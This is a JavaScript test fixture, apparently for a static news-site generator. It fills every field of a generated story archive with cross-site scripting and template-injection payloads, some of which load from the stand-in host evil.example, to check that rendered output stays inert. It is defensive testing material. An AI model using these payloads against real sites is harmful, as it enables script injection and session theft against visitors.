// An archive whose every field and text is a string that means harm, and the strings: they
// try to leave the place that they stand in, and to run a script of their own.

/** What runs if a string gets its way: the tests give pages a function of this name. */
const CALL = "__pwned()";

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script >`,
  `<script\n>${CALL}</script\t>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  "<script src=//evil.example/x.js></script>",
  '<script src="data:text/javascript,__pwned()"></script>',
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script>&#95;_pwned&#40;)</script></svg>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\x0b=${CALL}>`,
  `<IMG """><script>${CALL}</script>">`,
  `<img src="x\` \`onerror=${CALL}">`,
  `<image src=x onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<x tabindex=1 autofocus onfocus=${CALL}>x</x>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<style onload=${CALL}></style>`,
  `<style>@keyframes k{}p{animation:k}</style><p onanimationstart=${CALL}>x`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}" form=f>x</button>`,
  `<base href="javascript:${CALL}//">`,
  '<base href="//evil.example/">',
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  `<a href="javascript:${CALL}">x</a>`,
  `<a href=javascript:${CALL}>x`,
  `<a href="x" onclick=${CALL} onmouseover=${CALL}>x</a>`,
  `<area href="javascript:${CALL}">`,
  `<table background="javascript:${CALL}"><td>x</table>`,
  `<frameset onload=${CALL}>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<p style="background:url(javascript:${CALL})">x</p>`,
  `<plaintext onmouseover=${CALL}>`,
  `<dialog open oncancel=${CALL}><form method=dialog><input autofocus onfocus=${CALL}></form>`,
];

/** What a string begins with to get out of where it was put. */
const WAYS_OUT = [
  '"', "'", "`", '">', "'>", "`>", "/>", "\\\">", "&quot;>", "&#34;>", "-->", "--!>", "]]>",
  "<!--", "<!-->", "<![CDATA[", "<?x ", "?>", "%>", "}}", "{% endraw %}", "</title>",
  "</textarea>", "</style>", "</script>", '"}</script>', "</noscript>", "</template>", "</xmp>",
  "</iframe>", "</noembed>", "</svg>", "</a>", "</h1></header></main>", "</head><body>",
  "</body></html>", "</feed>", "</content></entry>", "</description></item>", "\n\n", "```\n",
  "|x|\n|-|\n|", "<div\n", "\\", "\u2028", "\r",
];

/** One of every family, to stand behind each way out. */
const STRIKES = [0, 10, 18, 28, 40, 51].map((at) => ELEMENTS[at]);

const IN_ATTRIBUTES = ['"', "'", "`", ""].flatMap((quote) => [
  `x${quote} onmouseover=${quote}${CALL}`,
  `x${quote} autofocus onfocus=${quote}${CALL}${quote} x=${quote}`,
  `x${quote}/onerror=${CALL}//`,
  `x${quote}\tonerror\n=\n${CALL} `,
  `x${quote} style=${quote}animation:x${quote} onanimationstart=${quote}${CALL}`,
  `x${quote} srcdoc=${quote}<script>parent.${CALL}</script>`,
]);

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\r\nscript:${CALL}`,
  `javascript\t:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${CALL}>`,
  `javascript:void(0)||${CALL}`,
  `javascript:%5f%5fpwned%28%29`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61script:${CALL}`,
  `&#0000106avascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script&colon;${CALL}`,
  `\\javascript:${CALL}`,
  `java\\script:${CALL}`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `feed:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `data:text/html,<script>opener.${CALL}</script>`,
  "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=",
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/x",
  "//evil.example/x",
  "https:evil.example",
  `https://a.example/"onmouseover="${CALL}`,
  `https://a.example/'onmouseover='${CALL}`,
  `https://a.example/ onmouseover=${CALL}`,
];
const IN_MARKDOWN = ADDRESSES.flatMap((url) => [
  url,
  `[x](${url})`,
  `[x](<${url}>)`,
  `![x](${url})`,
  `<${url}>`,
  `[x][y]\n\n[y]: ${url}`,
]);

const MARKDOWN = [
  `[x](y "z\\" onmouseover=\\"${CALL}")`,
  `[x](y 'z" onmouseover="${CALL}')`,
  `![x" onerror="${CALL}](y)`,
  `![x](y "z\\" onerror=\\"${CALL}")`,
  `![<img src=x onerror=${CALL}>](y)`,
  `[<img src=x onerror=${CALL}>](y)`,
  `\`</code><img src=x onerror=${CALL}>\``,
  `\`\`\`"><img src=x onerror=${CALL}>\nx\n\`\`\``,
  `~~~ x" onmouseover="${CALL}\nx\n~~~`,
  `# x {#a onmouseover=${CALL}}`,
  `# <img src=x onerror=${CALL}>`,
  `[^"><img src=x onerror=${CALL}>]\n\n[^"><img src=x onerror=${CALL}>]: x`,
  `|<img src=x onerror=${CALL}>|\n|-|\n|"onmouseover=${CALL}|`,
  `<a@b.example"onclick="${CALL}>`,
  `<https://a.example/"onclick="${CALL}>`,
  `> <svg onload=${CALL}>`,
  `- <svg onload=${CALL}>`,
  `    <svg onload=${CALL}>`,
  `<div>\n\n<svg onload=${CALL}>\n\n</div>`,
  `<!-- x --><svg onload=${CALL}>`,
  `<a href="x\n\n" onclick=${CALL}>x</a>`,
  `[x]: <javascript:${CALL}> "y"\n\n[x]`,
  `*[x](javascript:${CALL})*`,
  `[![x](javascript:${CALL})](javascript:${CALL})`,
  `[x](javascript:__pwned&#40;&#41;)`,
  `[x](java\\\nscript:${CALL})`,
];

const TEMPLATES = [
  "{{ 7 * 7 }}", "{% raw %}", "{% include \"base.html\" %}", "{{ __tera_context }}", "{# x",
  `{{constructor.constructor('${CALL}')()}}`, `{{{${CALL}}}}`, `\${${CALL}}`, `#{${CALL}}`,
  `<%= ${CALL} %>`, `<?php ${CALL} ?>`, `[[${CALL}]]`, `{{x|safe}}<svg onload=${CALL}>`,
  `<!--#include virtual="x" --><svg onload=${CALL}>`, `<esi:include src="//evil.example/x"/>`,
  `<div v-html="${CALL}">`, `<x-x ng-init="${CALL}">`, `%{${CALL}}`, `\${"x".constructor}`,
  `<!--#exec cmd="x" -->`,
];

const JSON_LD = [
  `</script><script>${CALL}</script>`,
  `</SCRIPT ><script>${CALL}</script>`,
  `</script\n><svg onload=${CALL}>`,
  `<!--<script>`,
  `<!--<script></script>`,
  `\\u003c/script\\u003e<script>${CALL}</script>`,
  `"};${CALL};//`,
  `\\"};${CALL};//`,
  `","@type":"Person","x":"`,
  `"]}</script><img src=x onerror=${CALL}>`,
  `\u2028${CALL}\u2029`,
  `\\`,
  `\\u2028</script>`,
  `"+${CALL}+"`,
  `*/${CALL}/*`,
];

const UNICODE = [
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\u2039script\u203a${CALL}`,
  `<\u017fcript>${CALL}</\u017fcript>`,
  `<scr\u0131pt>${CALL}</scr\u0131pt>`,
  `<\u200bscript>${CALL}</script>`,
  `<scr\u200dipt>${CALL}</script>`,
  `<script\u00a0>${CALL}</script>`,
  `<img\u2003src=x\u2003onerror=${CALL}>`,
  `\u202e>tpircs<${CALL}`,
  `\u2066<svg onload=${CALL}>\u2069`,
  `\ufeff<svg onload=${CALL}>`,
  `<svg\u0085onload=${CALL}>`,
  `%3Csvg onload=${CALL}%3E`,
  `%253Csvg%2520onload=${CALL}%253E`,
  `&lt;svg onload=${CALL}&gt;`,
  `&amp;lt;svg onload=${CALL}&amp;gt;`,
  `&#60;svg onload=${CALL}&#62;`,
  `&#x3c;svg onload=${CALL}&#x3e;`,
  `&#x3csvg onload=${CALL}&#x3e`,
  `&LT;svg onload=${CALL}&GT;`,
  `&lt;!--&gt;<svg onload=${CALL}>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\u{1f4a5}"><svg onload=${CALL}>`,
  `<s\u0301vg onload=${CALL}>`,
  `\u0338><svg onload=${CALL}>`,
  `\u0130<svg onload=${CALL}>`,
];

/** Characters that XML, HTML or YAML forbid or forget, in the middle of a name. */
const CONTROLS = [
  ...Array.from({ length: 32 }, (_, at) => at),
  0x7f, 0x80, 0x9f, 0xad, 0x2060, 0xfdd0, 0xfffd, 0xfffe, 0xffff, 0x1fffe,
].flatMap((code) => {
  const char = String.fromCodePoint(code);
  return [
    `<scr${char}ipt>${CALL}</script>`,
    `<svg${char}onload=${CALL}>`,
    `java${char}script:${CALL}`,
  ];
});

/** All of them, each once. */
export const STRINGS = [
  ...new Set([
    ...ELEMENTS,
    ...WAYS_OUT.flatMap((out) => STRIKES.map((strike) => out + strike)),
    ...IN_ATTRIBUTES,
    ...IN_MARKDOWN,
    ...MARKDOWN,
    ...TEMPLATES,
    ...JSON_LD,
    ...UNICODE,
    ...CONTROLS,
  ]),
];

/** A text in quotes as YAML has them; all that is not ASCII is named by its number. */
function quoted(text) {
  const inside = Array.from(text, (char) => {
    const code = char.codePointAt(0);
    if (char === '"' || char === "\\") return `\\${char}`;
    if (code >= 0x20 && code < 0x7f) return char;
    return `\\U${code.toString(16).padStart(8, "0")}`;
  });
  return `"${inside.join("")}"`;
}

/** A story that says one thing wherever it may say anything. */
function story(text, at) {
  const said = quoted(text);
  // A file with a zero byte is no text.
  const body = text.replaceAll("\0", "\ufffd");
  return `---
title: ${said}
source: ${at % 20 === 0 ? said : "Alder Wire"}
date: ${day(at)}T${String(at % 24).padStart(2, "0")}:00:00Z
dateline: ${said}
byline: [${said}]
section: ${at % 20 === 10 ? said : "Harbour"}
topics: [${said}, "all"]
places: [${said}]
summary: ${said}
image: { src: pic.svg, alt: ${said}, caption: ${said}, credit: ${said} }
kind: ${said}
priority: ${said}
slugline: ${said}
keywords: [${said}]
rights: { holder: ${said}, notice: ${said}, terms: ${said} }
origin: { url: ${said}, note: ${said} }
id: ${quoted(`${at}${text}`)}
slug: ${quoted(`${at}-${text}`)}
aliases: [${quoted(`/old/${at}/${text}`)}]
updated: ${day(at)}T23:30:00Z
corrections: [{ date: ${day(at)}T23:00:00Z, text: ${said} }]
extra: { note: ${said} }
---

${body}

Before ${body} after.

## ${body}

- ${body}

> ${body}

[${body}](${body}) ![${body}](${body}) [x](${body}) ![x](pic.svg "${body}")

| a | b |
|---|---|
| ${body} | x |

\`\`\`${body}
${body}
\`\`\`

Last[^1].

[^1]: ${body}
`;
}

/** Ten stories a day. */
const day = (at) => new Date(Date.UTC(2016, 0, 1 + Math.floor(at / 10))).toISOString().slice(0, 10);

const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>';

/** The files of an archive of all strings; `settings` are more lines of its newsgen.yaml. */
export function archive(settings = "") {
  const first = quoted(ELEMENTS[0] + '"' + ELEMENTS[18]);
  const files = {
    "newsgen.yaml":
      `title: ${first}\ndescription: ${first}\nrights: ${first}\n` +
      `base_url: https://archive.example.org/\nmenu: [{ title: ${first}, url: /archive.html }]\n` +
      settings,
  };
  for (const [at, text] of STRINGS.entries()) {
    const folder = `content/${day(at).replaceAll("-", "/")}`;
    files[`${folder}/story-${at}.md`] = story(text, at);
    files[`${folder}/pic.svg`] = PICTURE;
  }
  for (const [at, text] of ELEMENTS.entries()) {
    files[`content/pages/page-${at}.md`] =
      `---\ntitle: ${quoted(text)}\nsummary: ${quoted(text)}\nmenu: ${at < 3}\n---\n\n${text}\n`;
  }
  return files;
}
